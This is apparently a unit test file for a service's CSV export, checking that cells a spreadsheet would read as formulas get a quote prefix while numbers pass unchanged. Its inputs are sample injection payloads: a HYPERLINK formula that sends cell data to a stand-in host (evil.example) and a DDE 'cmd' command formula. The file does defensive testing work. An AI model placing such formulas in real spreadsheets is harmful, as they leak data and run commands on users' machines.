// Formula escaping in the CSV files the service writes (CSV injection): a text cell a spreadsheet would
// read as a formula gets a single quote in front; numbers, and text that is exactly a number, do not.
import { describe, expect, it } from 'vitest';
import { csvDocument, csvField, csvLine } from '../src/querying/csv-rows.js';
import { toCsv } from '../src/deliveries/result-tables.js';

describe('CSV formula escaping', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tindented', "'\tindented"],
    ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-', "'-"],
  ])('prefixes the text %j', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it('quotes a field starting with a carriage return after the prefix', () => {
    expect(csvField('\r=cmd')).toBe(`"'\r=cmd"`);
  });

  it('quotes an escaped field with a line break in it, the quote inside the quotes', () => {
    expect(csvField('=1\n+2')).toBe(`"'=1\n+2"`);
    expect(csvField('note\n=not at the start')).toBe('"note\n=not at the start"');
  });

  it('leaves numbers alone, and a text that is exactly a number', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-0.25)).toBe('-0.25');
    // A text column holding -5, and a BIGINT beyond 2^53 (the drivers hand those over as text).
    expect(csvField('-5')).toBe('-5');
    expect(csvField('+5')).toBe('+5');
    expect(csvField('-9007199254740993')).toBe('-9007199254740993');
    expect(csvField('-1.5e3')).toBe('-1.5e3');
    // A number followed by anything else is text a spreadsheet may evaluate.
    expect(csvField('-5+cmd')).toBe("'-5+cmd");
  });

  it('leaves text with the characters elsewhere, booleans and nulls alone', () => {
    expect(csvLine(['a=b', 'x-y', 'user@example.com', true, null, ' =lead'])).toBe('a=b,x-y,user@example.com,true,, =lead\r\n');
  });

  it('escapes the column names of the header row too', () => {
    expect(csvDocument(['=name', 'n'], [{ '=name': 'x', n: 1 }])).toBe("'=name,n\r\nx,1\r\n");
  });

  it('escapes the CSV a scheduled delivery carries', () => {
    expect(toCsv(['region', 'orders'], [{ region: '=cmd|"/C calc"!A0', orders: -3 }])).toBe(`region,orders\r\n"'=cmd|""/C calc""!A0",-3\r\n`);
  });
});
